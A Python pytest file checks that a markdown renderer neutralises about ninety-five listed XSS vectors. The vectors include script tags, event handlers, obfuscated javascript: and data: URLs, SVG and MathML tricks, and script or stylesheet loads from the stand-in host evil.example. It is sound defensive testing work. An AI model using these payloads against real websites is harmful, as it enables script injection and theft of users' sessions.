"""Known XSS vectors through the one markdown renderer: the output is parsed, not searched for substrings."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest

from tumours.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown

SAFE_SCHEMES = ("http:", "https:", "mailto:")
URL_ATTRIBUTES = {"href", "src"}
SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")

VECTORS = [
    # Script tags
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<script src="https://evil.example/x.js"></script>',
    "<script>alert(1)",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=https://evil.example/x.js></script>",
    '<script type="text/javascript">alert(1)</script>',
    "<script\n>alert(1)</script\n>",
    # Event handlers
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror\n="alert(1)">',
    '<body onload="alert(1)">',
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    '<p onclick="alert(1)">text</p>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<marquee onstart="alert(1)">x</marquee>',
    '<select onfocus="alert(1)" autofocus>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # javascript:, vbscript: and data: URLs in links and images
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    # Markdown link and image syntax
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](https://example.com/x.png"onerror="alert(1))',
    '[x](https://example.com "title" onclick="alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x][img]\n\n[img]: data:text/html,alert(1)",
    "<javascript:alert(1)>",
    "[a](<javascript:alert(1)>)",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    # Style
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Frames, objects and embeds
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<applet code="x.class"></applet>',
    # Meta refresh, forms and base href
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="javascript:alert(1)//">',
    '<isindex action="javascript:alert(1)" type="image">',
    # Broken and nested tags, comments
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<a href='javascript:alert(1)'>x",
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    '<<img src=x onerror=alert(1)>>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script></textarea>',
    '<template><script>alert(1)</script></template>',
    # Entity-encoded markup stays text
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # Inside markdown constructs
    "**<script>alert(1)</script>**",
    "- <img src=x onerror=alert(1)>",
    "> <iframe src=https://evil.example></iframe>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    '<a href="https://example.com" target="_blank" rel="opener">x</a>',
]  # fmt: skip


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
            return
        allowed = set(ALLOWED_ATTRIBUTES.get(tag, ()))
        if tag == "a":
            allowed.add("rel")  # the renderer adds rel="noopener noreferrer" itself
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name in URL_ATTRIBUTES and not self.safe_url(value or ""):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            elif name == "rel" and "opener" in (value or "").split():
                self.problems.append(f"rel={value!r}")

    handle_startendtag = handle_starttag

    @staticmethod
    def safe_url(value: str) -> bool:
        # Read the URL as a browser does (WHATWG URL spec): entities decoded, leading and trailing controls and
        # spaces trimmed, tabs and newlines removed anywhere. Without a valid scheme it is a relative URL.
        url = "".join(ch for ch in unescape(value).strip("".join(map(chr, range(33)))) if ch not in "\t\n\r")
        scheme = SCHEME.match(url)
        return scheme is None or f"{scheme.group(1).lower()}:" in SAFE_SCHEMES


def problems_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


def test_there_are_at_least_sixty_vectors():
    assert len(set(VECTORS)) >= 60


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_survives_the_renderer(vector):
    html = render_markdown(vector)
    assert problems_in(html) == [], html
    # Text may mention "alert(1)", but never as live markup: re-parsing finds no script anywhere.
    assert "<script" not in html.lower()


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="&#x20;\x01JavaScript:alert(1)">x</a>',
        '<a href="https://x" rel="opener">x</a>',
    ],
)
def test_the_inspector_catches_what_it_looks_for(html):
    # Guards the guard: if the inspector stopped seeing these, every test above would pass for nothing.
    assert problems_in(html) != []


def test_safe_markdown_keeps_its_links_and_images():
    html = render_markdown("[NHS](https://www.nhs.uk/) ![scan](/media/uploads/scan.png) [mail](mailto:a@b.example)")
    assert problems_in(html) == []
    assert 'href="https://www.nhs.uk/"' in html and 'src="/media/uploads/scan.png"' in html
